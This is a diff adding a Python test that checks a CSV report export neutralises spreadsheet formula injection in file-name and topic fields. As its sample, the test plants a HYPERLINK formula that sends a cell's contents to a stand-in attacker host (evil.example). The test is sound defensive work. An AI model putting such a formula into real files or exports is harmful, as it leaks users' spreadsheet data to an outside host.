@@ -59,3 +59,15 @@ def test_verify_problems_and_findings_tables():
     findings = reports.findings_table({"orphan_object": {"WARNING": 2, "INFO": 1}, "missing_object": {"ERROR": 1}})
     assert [tuple(r) for r in findings.itertuples(index=False)] == [
         ("missing_object", "ERROR", 1), ("orphan_object", "INFO", 1), ("orphan_object", "WARNING", 2)]
+
+
+def test_a_hostile_file_name_cannot_become_a_spreadsheet_formula():
+    frame = files_frame()
+    frame.loc[0, "legacy_path"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    frame.loc[1, "topic"] = "@SUM(1+1)"
+    back = pd.read_csv(io.BytesIO(reports.to_csv(frame)), keep_default_na=False)
+    assert back["legacy_path"][0].startswith("'=") and back["topic"][1] == "'@SUM(1+1)"
+    assert back["legacy_path"][2] == "output/a/2.mp4#copy" and back["size_bytes"].sum() == frame["size_bytes"].sum()
+    # the control: without it, the cell starts the formula a spreadsheet would run
+    raw = pd.read_csv(io.BytesIO(reports.to_csv(frame, neutralize_formulas=False)), keep_default_na=False)
+    assert raw["legacy_path"][0].startswith("=HYPERLINK")
